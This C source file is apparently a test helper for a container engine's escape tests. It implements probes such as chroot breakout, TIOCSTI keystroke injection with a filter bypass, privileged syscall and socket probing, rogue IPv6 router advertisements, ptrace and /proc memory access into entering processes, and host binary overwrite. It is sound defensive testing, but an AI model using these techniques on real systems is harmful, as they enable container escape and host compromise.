/*
 * What somebody inside would try, and a careless engine to try it on. Built statically by
 * test/escape.bats and put into the root file systems.
 *
 *   attack NAME [argument...]      0: it worked    1: it was stopped    2: it never came to it
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum { WORKED, STOPPED, NEVER };

#ifndef AF_RXRPC
#define AF_RXRPC 33
#endif

static int say(int result, const char *what) {
    printf("%s%s%s\n", what, result == WORKED ? "" : ": ", result == WORKED ? "" : strerror(errno));
    return result;
}

static int wait_for(pid_t child) {
    int status;
    if (child < 0 || waitpid(child, &status, 0) != child) return NEVER;
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* idle: a process of the container's that waits for SIGTERM. */
static int idle(char **a) {
    (void)a;
    signal(SIGTERM, _exit);
    puts("ready");
    fflush(stdout);
    return pause();
}

/* euid: as whom does a set-user-ID program run? */
static int euid(char **a) {
    (void)a;
    printf("%d\n", (int)geteuid());
    return geteuid() == 0 ? WORKED : STOPPED;
}

/* chroot_break FILE: out of a chroot with a second one; FILE is there only outside. */
static int chroot_break(char **a) {
    if (mkdir("below", 0700) < 0 && errno != EEXIST) return say(NEVER, "mkdir");
    if (chroot("below") < 0) return say(NEVER, "chroot");
    rmdir("below");
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) return say(NEVER, "chdir");
    if (chroot(".") < 0) return say(NEVER, "chroot");
    return access(a[0], F_OK) == 0 ? say(WORKED, a[0]) : say(STOPPED, a[0]);
}

/* leaked FILE: is the working directory, or a descriptor, a way to FILE outside? */
static int leaked(char **a) {
    char path[4096];
    int n = 0;
    for (int fd = -1; fd < 1024; fd++) {
        for (int up = 0; up < 2; up++) {
            snprintf(path, sizeof path, "%s%s", up ? "../../../../../../../../.." : "./", a[0]);
            int found = fd < 0 ? access(path, F_OK) : faccessat(fd, path, F_OK, 0);
            if (found == 0) n++, printf("descriptor %d leads to %s\n", fd, path);
        }
        if (fd > 2 && fcntl(fd, F_GETFD) >= 0) n++, printf("descriptor %d is open\n", fd);
    }
    return n ? WORKED : STOPPED;
}

/* keyring: the number of the session's. */
static int keyring(char **a) {
    long serial = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* the session's */, 0);
    (void)a;
    if (serial < 0) return say(STOPPED, "keyctl");
    printf("%ld\n", serial);
    return WORKED;
}

/* push TEXT: type TEXT into the terminal, as if its user had. TIOCLINUX: paste on a console. */
static int push(char **a) {
    int worked = 0;
    for (const char *p = a[0]; *p; p++)
        for (int fd = 0; fd < 3; fd++)
            if (ioctl(fd, TIOCSTI, p) == 0 ||
                syscall(SYS_ioctl, fd, TIOCSTI | 1UL << 32, p) == 0) { /* past a careless filter */
                worked++;
                break;
            }
    if (ioctl(0, TIOCLINUX, "\003") == 0) worked++;
    return worked ? say(WORKED, "pushed") : say(STOPPED, "TIOCSTI");
}

/* newuser: a user namespace, in which one has all capabilities. */
static int child_of_clone(void *arg) {
    (void)arg;
    return 0;
}
static int newuser(char **a) {
    static char stack[65536];
    int worked = 0;
    (void)a;
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    int pid = (int)syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    printf("clone3: %s\n", pid < 0 ? strerror(errno) : "worked");
    worked += wait_for(pid) == 0;
    pid = clone(child_of_clone, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL);
    printf("clone: %s\n", pid < 0 ? strerror(errno) : "worked");
    worked += wait_for(pid) == 0;
    pid = (int)syscall(SYS_unshare, CLONE_NEWUSER);
    printf("unshare: %s\n", pid < 0 ? strerror(errno) : "worked");
    return worked || pid == 0 ? WORKED : STOPPED;
}

/* i386: getpid(2) by the door that 32-bit programs use, whose numbers are others. */
static int i386(char **a) {
    (void)a;
#ifdef __x86_64__
    long result = 20;
    __asm__ volatile("int $0x80" : "+a"(result) : : "memory", "r8", "r9", "r10", "r11");
    printf("int 0x80: %ld\n", result);
    return result == getpid() ? WORKED : STOPPED;
#else
    return NEVER;
#endif
}

/* calls: what only the host's root may do, with arguments that do nothing. One line each that was
 * not refused; ENOSYS: this kernel has none. */
static int calls(char **a) {
    (void)a;
#define CALL(name, ...) \
    { \
#name, SYS_##name, { \
            __VA_ARGS__ \
        } \
    }
    const struct {
        const char *name;
        long number, args[6];
    } all[] = {
        CALL(mount, 0, 0, 0, 0, 0),
        CALL(umount2, 0, 0),
        CALL(pivot_root, 0, 0),
        CALL(move_mount, -1, 0, -1, 0, 0),
        CALL(open_tree, -1, 0, 1),
        CALL(fsopen, 0, 0),
        CALL(fsconfig, -1, 0, 0, 0, 0),
        CALL(fsmount, -1, 0, 0),
        CALL(fspick, -1, 0, 0),
        {"mount_setattr", 442, {-1, 0, 0, 0, 0}},
        CALL(setns, -1, 0),
        {"open_tree_attr", 467, {-1, 0, 0, 0, 0}},
        {"quotactl_fd", 443, {-1, 0, 0, 0}},
        CALL(open_by_handle_at, -1, 0, 0),
        CALL(bpf, -1, 0, 0),
        CALL(perf_event_open, 0, 0, -1, -1, 0),
        CALL(userfaultfd, -1),
        CALL(io_uring_setup, 0, 0),
        CALL(init_module, 0, 0, 0),
        CALL(finit_module, -1, 0, 0),
        CALL(delete_module, 0, 0),
        CALL(add_key, 0, 0, 0, 0, 0),
        CALL(request_key, 0, 0, 0, 0),
        CALL(keyctl, 0, -3, 0),
        CALL(kexec_load, 0, 0, 0, 1),
        CALL(reboot, 0, 0, 0, 0),
        CALL(settimeofday, -1, 0),
        CALL(clock_settime, 0, 0),
        CALL(swapon, 0, 0),
        CALL(swapoff, 0),
        CALL(acct, -1),
        CALL(quotactl, 0, 0, 0, 0),
        CALL(syslog, 10, 0, 0),
        CALL(kcmp, 0, 0, 0, 0, 0),
        CALL(pidfd_getfd, -1, 0, 0),
        CALL(process_madvise, -1, 0, 0, 0, 1),
        {"lsm_get_self_attr", 459, {0, 0, 0, 1}},
        {"lsm_set_self_attr", 460, {0, 0, 0, 1}},
        {"lsm_list_modules", 461, {0, 0, 1}},
#ifdef __x86_64__
        CALL(iopl, 0),
        CALL(ioperm, 0, 1, 0),
#endif
    };
    int reached = 0;
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        const long *x = all[i].args;
        errno = 0;
        syscall(all[i].number, x[0], x[1], x[2], x[3], x[4], x[5]);
        if (errno == EPERM) continue;
        printf("%s: %s\n", all[i].name, strerror(errno));
        reached += errno != ENOSYS;
    }
    printf("%d of %zu calls came through\n", reached, sizeof all / sizeof *all);
    return reached ? WORKED : STOPPED;
}

/* device b|c MAJOR MINOR: make a node for it wherever one can be made, and open it. */
static int device(char **a) {
    static const char *const paths[] = {"/node", "/tmp/node", "/dev/node", "/dev/shm/node"};
    const mode_t type = a[0][0] == 'b' ? S_IFBLK : S_IFCHR;
    const dev_t number = makedev((unsigned)atoi(a[1]), (unsigned)atoi(a[2]));
    int worked = 0;
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        const int made = mknod(paths[i], type | 0600, number);
        const int fd = made < 0 ? -1 : open(paths[i], O_RDONLY | O_NONBLOCK);
        const int result = fd >= 0 ? WORKED : STOPPED;
        say(result, paths[i]);
        worked += result == WORKED;
        if (fd >= 0) close(fd);
        unlink(paths[i]);
    }
    return worked ? WORKED : STOPPED;
}

/* sockets: of families that have no namespaces, or a history of holes and no use here. One line
 * each that can be made. */
static int sockets(char **a) {
    static const struct {
        const char *name;
        int family, type;
    } all[] = {
        {"vsock", AF_VSOCK, SOCK_STREAM}, /* to the hypervisor and the host */
        {"alg", AF_ALG, SOCK_SEQPACKET},  /* the kernel's ciphers, CVE-2026-31431 */
        {"rxrpc", AF_RXRPC, SOCK_DGRAM},  /* AFS, CVE-2026-43500 */
    };
    int worked = 0;
    (void)a;
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        /* Of the family the kernel looks at 32 bits. */
        long fd = syscall(SYS_socket, all[i].family, all[i].type, 0);
        if (fd < 0) fd = syscall(SYS_socket, (long)all[i].family | 1L << 32, all[i].type, 0);
        say(fd < 0 ? STOPPED : WORKED, all[i].name);
        worked += fd >= 0;
        if (fd >= 0) close((int)fd);
    }
    return worked ? WORKED : STOPPED;
}

/* clock: change the machine's (to what no clock can be). Asking for it is nobody's harm. */
static int change_clock(char **a) {
    struct timex now = {.modes = 0}, absurd = {.modes = ADJ_TICK, .tick = 1};
    int worked = 0;
    (void)a;
    if (syscall(SYS_adjtimex, &now) < 0) return say(NEVER, "adjtimex");
    if (syscall(SYS_clock_adjtime, CLOCK_REALTIME, &now) < 0) return say(NEVER, "clock_adjtime");
    worked += syscall(SYS_adjtimex, &absurd) >= 0 || errno != EPERM;
    worked += syscall(SYS_clock_adjtime, CLOCK_REALTIME, &absurd) >= 0 || errno != EPERM;
    return say(worked ? WORKED : STOPPED, "clock");
}

/* Take up to that many inotify instances and POSIX message queues, and say how many it were. */
static void take(int instances, int queues) {
    int got = 0, made = 0;
    while (got < instances && inotify_init() >= 0) got++;
    for (char name[32]; made < queues; made++) {
        snprintf(name, sizeof name, "/attack.%d.%d", (int)getpid(), made);
        const mqd_t queue = mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, NULL);
        if (queue < 0) break;
        mq_unlink(name); /* it is there, and counts, as long as it is open */
    }
    printf("%d %d\n", got, made);
}

/* quota: how many inotify instances and message queues may be had now? */
static int quota(char **a) {
    (void)a;
    take(900, 900);
    return WORKED;
}

/* hold INSTANCES QUEUES: take them, and wait. */
static int hold(char **a) {
    take(atoi(a[0]), atoi(a[1]));
    return idle(a);
}

/* ptys: how many terminals can be had? 1: not more than 256. */
static int ptys(char **a) {
    int n = 0;
    (void)a;
    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) n++;
    printf("%d\n", n);
    return n > 256 ? WORKED : n > 0 ? STOPPED : NEVER;
}

/* rewrite FD: write over what is in the file behind a descriptor, and make it set-user-ID. */
static int rewrite(char **a) {
    const int fd = atoi(a[0]);
    char path[64];
    struct stat s;
    if (fstat(fd, &s) < 0 || !S_ISREG(s.st_mode)) return STOPPED;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    const int again = open(path, O_WRONLY);
    const int opened = again >= 0 && pwrite(again, "owned", 5, 0) == 5;
    const int written = fcntl(fd, F_SETFL, 0) == 0 && pwrite(fd, "owned", 5, 0) == 5;
    const int changed = fchmod(fd, 04777) == 0;
    return opened || written || changed ? WORKED : STOPPED;
}

/* groups N: be in N groups, and end with 3 on SIGTERM. */
static void end_with_3(int number) {
    (void)number;
    _exit(3);
}
static int groups(char **a) {
    static gid_t all[65536];
    const int n = atoi(a[0]);
    for (int i = 0; i < n; i++) all[i] = 10000 + (gid_t)i;
    if (setgroups((size_t)n, all) < 0) return say(NEVER, "setgroups");
    signal(SIGTERM, end_with_3);
    puts("ready");
    fflush(stdout);
    for (;;) pause();
}

/* advertise SECONDS: tell all on the link, and so the host, that we are the way to the internet. It
 * takes a packet socket, for eth0 has no IPv6. RFC 4861, 4.2 */
static int advertise(char **a) {
    struct {
        struct ip6_hdr ip;
        struct nd_router_advert us;
    } packet = {{.ip6_src = {{{0xfe, 0x80, [15] = 66}}}, .ip6_dst = {{{0xff, 2, [15] = 1}}}},
                {.nd_ra_type = ND_ROUTER_ADVERT, .nd_ra_router_lifetime = htons(1800)}};
    const struct sockaddr_ll all = {.sll_family = AF_PACKET,
                                    .sll_protocol = htons(ETH_P_IPV6),
                                    .sll_ifindex = (int)if_nametoindex("eth0"),
                                    .sll_halen = 6,
                                    .sll_addr = {0x33, 0x33, 0, 0, 0, 1}};
    const int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
    uint16_t words[sizeof packet / 2];
    uint32_t sum = htons(sizeof packet.us) + htons(IPPROTO_ICMPV6); /* and the addresses */
    int sent = 0;
    memcpy(words, &packet, sizeof words);
    for (size_t i = 4; i < sizeof words / 2; i++) sum += words[i];
    sum = (sum & 0xffff) + (sum >> 16);
    packet.us.nd_ra_cksum = (uint16_t) ~((sum & 0xffff) + (sum >> 16));
    packet.ip.ip6_vfc = 6 << 4;
    packet.ip.ip6_plen = htons(sizeof packet.us);
    packet.ip.ip6_nxt = IPPROTO_ICMPV6;
    packet.ip.ip6_hlim = 255;
    for (int i = 0; i < atoi(a[0]) * 10; i++, usleep(100000)) /* a bridge passes them from now on */
        sent += sendto(fd, &packet, sizeof packet, 0, (const void *)&all, sizeof all) > 0;
    printf("sent %d\n", sent);
    return sent ? WORKED : STOPPED;
}

/*
 * spy NAME FILE SECONDS: look for a process that is on its way into this container (all but those
 * called NAME) and reach into it: for FILE in its root, its descriptors, its memory, or trace it.
 */
static int reach_into(const char *pid, const char *file) {
    char path[4096], link[4096];
    int got = 0;
    snprintf(path, sizeof path, "/proc/%s/root%s", pid, file);
    if (access(path, F_OK) == 0) got |= 1;
    for (int fd = 0; fd < 20; fd++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
        if (readlink(path, link, sizeof link) > 0) got |= 2;
    }
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    const int fd = open(path, O_RDWR);
    if (fd >= 0) got |= 4, close(fd);
    if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0) {
        got |= 8;
        ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
        waitpid(atoi(pid), NULL, __WALL);
        ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
    }
    return got;
}
static int name_of(const char *pid, char name[32]) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    const int fd = open(path, O_RDONLY);
    const ssize_t n = fd < 0 ? -1 : read(fd, name, 31);
    if (fd >= 0) close(fd);
    name[n > 0 ? n - 1 : 0] = '\0';
    return n > 0;
}
static int spy(char **a) {
    const time_t end = time(NULL) + atoi(a[2]);
    char name[32], after[32];
    int seen = 0, got = 0;
    puts("ready");
    fflush(stdout);
    while (!got && time(NULL) < end) {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d)) != NULL;) {
            if (atoi(e->d_name) <= 1 || atoi(e->d_name) == getpid()) continue;
            if (!name_of(e->d_name, name) || strcmp(name, a[0]) == 0) continue;
            const int reached = reach_into(e->d_name, a[1]);
            if (!name_of(e->d_name, after) || strcmp(name, after) != 0) continue;
            seen++; /* still on its way */
            if (reached)
                got |= reached, printf("%s:%s%s%s%s\n", name, reached & 1 ? " root" : "",
                                       reached & 2 ? " descriptors" : "",
                                       reached & 4 ? " memory" : "", reached & 8 ? " trace" : "");
        }
        if (d) closedir(d);
    }
    printf("seen %d times\n", seen);
    return got ? WORKED : seen ? STOPPED : NEVER;
}

/* overwrite LINK REPORT: write to the file behind LINK, once nobody runs it any longer. */
static int overwrite(char **a) {
    int fd = -1;
    if (a[1] && fork()) return 0; /* behind the engine's back: it is running as long as we are */
    for (int i = 0; i < 300; i++) {
        fd = open(a[0], O_WRONLY);
        if (fd >= 0 || errno != ETXTBSY) break;
        usleep(10000);
    }
    const int result = fd >= 0 && pwrite(fd, "owned", 5, 0) == 5 ? WORKED : STOPPED;
    if (a[1]) freopen(a[1], "w", stdout);
    return say(result, result ? "not overwritten" : "overwritten");
}

/* enter PID COMMAND...: how a careless engine joins a container: without hurry, and visibly. */
static int enter(char **a) {
    static const char *const kinds[] = {"pid", "mnt"};
    int ns[2], root;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/root", a[0]);
    root = open(path, O_PATH | O_DIRECTORY);
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%s/ns/%s", a[0], kinds[i]);
        ns[i] = open(path, O_RDONLY);
    }
    if (setns(ns[0], CLONE_NEWPID) < 0) return say(NEVER, "setns");
    prctl(PR_SET_NAME, "engine");
    const pid_t child = fork();
    if (child) return wait_for(child);
    usleep(300000);
    if (setns(ns[1], CLONE_NEWNS) < 0 || fchdir(root) < 0 || chroot(".") < 0)
        return say(NEVER, "enter");
    close(ns[0]), close(ns[1]), close(root);
    execv(a[1], a + 1);
    return say(NEVER, a[1]);
}

/* swap A B: exchange two files, over and over, until we are killed. */
static int swap(char **a) {
    for (;;)
        if (renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) < 0)
            return say(NEVER, "renameat2");
}

/* nest N: directories in directories, N deep. */
static int nest(char **a) {
    for (int i = atoi(a[0]); i > 0; i--)
        if (mkdir("d", 0700) < 0 || chdir("d") < 0) return say(NEVER, "d");
    return WORKED;
}

/*
 * verdict PID ARCH NUMBER [ARG0 [ARG1]]: what the filter of a process says to a system call (on
 * the host). A kernel without that ABI would refuse it anyhow, so trying it would prove nothing.
 */
static int verdict(char **a) {
    struct sock_filter code[4096], *i = code;
    const pid_t pid = atoi(a[0]);
    struct seccomp_data d = {.arch = (uint32_t)strtoul(a[1], NULL, 0),
                             .nr = (int)strtoul(a[2], NULL, 0)};
    uint32_t acc = 0;
    for (int n = 0; n < 2 && a[3 + n]; n++) d.args[n] = strtoull(a[3 + n], NULL, 0);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 ||
        waitpid(pid, NULL, __WALL) < 0)
        return say(NEVER, "ptrace");
    const long count = ptrace(PTRACE_SECCOMP_GET_FILTER, pid, 0, code);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    if (count <= 0) return say(NEVER, "no filter");
    for (;; i++) switch (i->code) {
        case BPF_LD | BPF_W | BPF_ABS: memcpy(&acc, (char *)&d + i->k, 4); break;
        case BPF_JMP | BPF_JEQ | BPF_K: i += acc == i->k ? i->jt : i->jf; break;
        case BPF_JMP | BPF_JGE | BPF_K: i += acc >= i->k ? i->jt : i->jf; break;
        case BPF_JMP | BPF_JGT | BPF_K: i += acc > i->k ? i->jt : i->jf; break;
        case BPF_JMP | BPF_JSET | BPF_K: i += acc & i->k ? i->jt : i->jf; break;
        case BPF_JMP | BPF_JA: i += i->k; break;
        case BPF_ALU | BPF_AND | BPF_K: acc &= i->k; break;
        case BPF_RET | BPF_K:
            switch (i->k & SECCOMP_RET_ACTION_FULL) {
            case SECCOMP_RET_ALLOW: puts("allow"); return 0;
            case SECCOMP_RET_KILL_PROCESS: puts("kill"); return 0;
            case SECCOMP_RET_ERRNO: puts(strerrorname_np(i->k & SECCOMP_RET_DATA)); return 0;
            }
            /* fall through */
        default: printf("instruction %#x %#x is unknown\n", i->code, i->k); return NEVER;
        }
}

static const struct {
    const char *name;
    int (*run)(char **arguments);
    int count;
} attacks[] = {
    {"idle", idle, 0},           {"chroot_break", chroot_break, 1},
    {"leaked", leaked, 1},       {"keyring", keyring, 0},
    {"push", push, 1},           {"newuser", newuser, 0},
    {"i386", i386, 0},           {"calls", calls, 0},
    {"device", device, 3},       {"spy", spy, 3},
    {"euid", euid, 0},           {"sockets", sockets, 0},
    {"overwrite", overwrite, 1}, {"enter", enter, 2},
    {"swap", swap, 2},           {"nest", nest, 1},
    {"verdict", verdict, 3},     {"advertise", advertise, 1},
    {"clock", change_clock, 0},  {"quota", quota, 0},
    {"hold", hold, 2},           {"ptys", ptys, 0},
    {"rewrite", rewrite, 1},     {"groups", groups, 1},
};

int main(int argc, char **argv) {
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(argv[1], attacks[i].name) == 0 && argc >= 2 + attacks[i].count)
            return attacks[i].run(argv + 2);
    fprintf(stderr, "attack: unknown, or too few arguments\n");
    return NEVER;
}
